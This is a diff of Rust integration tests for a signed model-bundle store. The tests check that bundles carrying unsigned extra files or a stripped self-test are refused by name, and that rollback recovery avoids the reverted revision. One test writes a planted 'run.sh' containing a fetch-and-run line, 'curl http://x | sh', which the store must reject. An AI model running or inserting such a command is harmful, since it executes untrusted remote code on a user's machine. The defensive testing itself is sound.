@@ -5,6 +5,8 @@
 
 use std::path::{Path, PathBuf};
 
+use sha2::Digest;
+
 use hallmark_agent::bundle::{
     generate_signing_key, BundleError, SignatureError, SigningKeyFile, TrustedKeys,
 };
@@ -44,17 +46,35 @@ fn trust_with(key: &SigningKeyFile) -> TrustedKeys {
     ])
 }
 
-/// Northwind's models and manifest as `revision`, signed by `key`, in `dir`.
+/// Northwind's files and manifest as `revision`, signed by `key`, in `dir`.
 fn resigned(dir: &Path, revision: u64, key: &SigningKeyFile) -> PathBuf {
+    resigned_with(dir, revision, key, &[])
+}
+
+/// [`resigned`] with `extra` files (path in the bundle, contents) added, listed and signed.
+fn resigned_with(
+    dir: &Path,
+    revision: u64,
+    key: &SigningKeyFile,
+    extra: &[(&str, &[u8])],
+) -> PathBuf {
     let b = dir.join(format!("northwind-{revision}"));
     std::fs::create_dir_all(&b).unwrap();
     let mut m: serde_json::Value =
         serde_json::from_slice(&std::fs::read(northwind().join("manifest.json")).unwrap()).unwrap();
-    // The model and every variant file the manifest names.
-    for entry in std::iter::once(&m["model"]).chain(m["variants"].as_array().into_iter().flatten())
-    {
-        let f = entry["file"].as_str().unwrap();
+    // Every file the shipped manifest lists.
+    for f in m["files"].as_object().unwrap().keys() {
+        if let Some(parent) = Path::new(f).parent() {
+            std::fs::create_dir_all(b.join(parent)).unwrap();
+        }
         std::fs::copy(northwind().join(f), b.join(f)).unwrap();
+    }
+    for (f, data) in extra {
+        if let Some(parent) = Path::new(f).parent() {
+            std::fs::create_dir_all(b.join(parent)).unwrap();
+        }
+        std::fs::write(b.join(f), data).unwrap();
+        m["files"][*f] = hex::encode(sha2::Sha256::digest(data)).into();
     }
     m["revision"] = revision.into();
     let bytes = serde_json::to_vec_pretty(&m).unwrap();
@@ -213,6 +233,81 @@ fn a_tampered_model_or_an_untrusted_signer_is_refused_and_nothing_is_installed()
     assert_clean(&root);
 }
 
+/// Every file of a bundle is named with its SHA-256 in the signed manifest: a signed tar with 100 MiB of
+/// extra unsigned bytes and a shell script, or with its self-test stripped, is refused naming the files,
+/// from a tar and from a folder, and nothing is installed; a file slipped into an installed revision
+/// later fails the store's check of it.
+#[test]
+fn unsigned_extra_files_or_a_stripped_selftest_refuse_a_signed_bundle_by_name() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("models");
+    let store = Store::open(&root).unwrap();
+    let key = generate_signing_key();
+    let trust = trust_with(&key);
+    let (_, r8, _) = revs();
+    let selftest: [(&str, &[u8]); 2] = [
+        ("selftest/expected.json", br#"{"images": []}"#),
+        ("selftest/a.jpg", b"\xff\xd8 not much of an image"),
+    ];
+    let good = resigned_with(tmp.path(), r8, &key, &selftest);
+    const LIMIT: u64 = 256 << 20;
+
+    let evil = tmp.path().join("evil");
+    std::fs::create_dir(&evil).unwrap();
+    archive::copy_dir(&good, &evil, LIMIT).unwrap();
+    std::fs::write(evil.join("run.sh"), "#!/bin/sh\ncurl http://x | sh\n").unwrap();
+    std::fs::File::create(evil.join("padding.bin"))
+        .unwrap()
+        .set_len(100 << 20)
+        .unwrap();
+    let evil_tar = tar_of_limit(&evil, &tmp.path().join("evil.tar"), LIMIT);
+    for source in [&evil_tar, &evil] {
+        let err = store.install(source, &trust, LIMIT).unwrap_err();
+        assert!(
+            matches!(&err, StoreError::Bundle { source: BundleError::Unlisted { files, .. }, .. }
+                if files == &["padding.bin", "run.sh"]),
+            "{}: {err}",
+            source.display()
+        );
+        assert!(
+            err.to_string()
+                .contains("not named in the signed manifest's files, refused: padding.bin, run.sh"),
+            "{err}"
+        );
+    }
+
+    let stripped = tmp.path().join("stripped");
+    std::fs::create_dir(&stripped).unwrap();
+    archive::copy_dir(&good, &stripped, LIMIT).unwrap();
+    std::fs::remove_dir_all(stripped.join("selftest")).unwrap();
+    let stripped_tar = tar_of(&stripped, &tmp.path().join("stripped.tar"));
+    let err = store.install(&stripped_tar, &trust, LIMIT).unwrap_err();
+    assert!(
+        err.to_string().contains(
+            "named in the signed manifest's files but missing: selftest/a.jpg, selftest/expected.json"
+        ),
+        "{err}"
+    );
+    assert!(store.list().unwrap().is_empty());
+    assert_clean(&root);
+
+    // The bundle as signed installs; a file added to it in the store afterwards is refused there.
+    let i = store.install(&good, &trust, LIMIT).unwrap();
+    store.activate("northwind", i.revision).unwrap();
+    assert_eq!(store.verify("northwind", &trust).unwrap().revision, r8);
+    std::fs::write(i.dir.join("selftest/extra.jpg"), b"x").unwrap();
+    let err = store.verify("northwind", &trust).unwrap_err();
+    assert!(
+        err.to_string().contains("refused: selftest/extra.jpg"),
+        "{err}"
+    );
+}
+
+fn tar_of_limit(folder: &Path, to: &Path, max: u64) -> PathBuf {
+    archive::pack(folder, to, &[], max).unwrap();
+    to.to_path_buf()
+}
+
 /// Raw tar bytes: one header per entry, written byte by byte (as an attacker's tool would).
 fn evil_tar(entries: &[(&str, tar::EntryType, &[u8])]) -> Vec<u8> {
     let mut b = tar::Builder::new(Vec::new());
@@ -355,6 +450,34 @@ fn an_active_pointer_to_a_missing_or_damaged_revision_falls_back_to_previous() {
         let (_, rec) = Store::open_recovering(&root).unwrap();
         assert_eq!(rec, Default::default(), "{damage}");
     }
+}
+
+/// A device taken back from r9 to r8 (how a rollback release activates), whose `active` pointer then
+/// breaks: recovery must not fall back to r9, the revision it had just been rolled back away from.
+#[test]
+fn a_broken_active_pointer_never_falls_back_to_the_revision_rolled_back_from() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("models");
+    let store = Store::open(&root).unwrap();
+    let key = generate_signing_key();
+    let trust = trust_with(&key);
+    let (r7, r8, r9) = revs();
+    store.install(&northwind(), &trust, MAX).unwrap();
+    for rev in [r8, r9] {
+        store
+            .install(&resigned(tmp.path(), rev, &key), &trust, MAX)
+            .unwrap();
+    }
+    for rev in [r7, r8, r9, r8] {
+        store.activate("northwind", rev).unwrap();
+    }
+    std::fs::write(root.join("northwind/active"), b"\0\0").unwrap();
+    let (store, rec) = Store::open_recovering(&root).unwrap();
+    assert_ne!(store.active("northwind").unwrap(), Some(r9), "{rec:?}");
+    assert_eq!(rec.fell_back.len(), 1, "{rec:?}");
+    // Nor is it kept as the target of the next rollback.
+    assert_ne!(store.previous("northwind").unwrap(), Some(r9));
+    let _ = r7;
 }
 
 #[test]
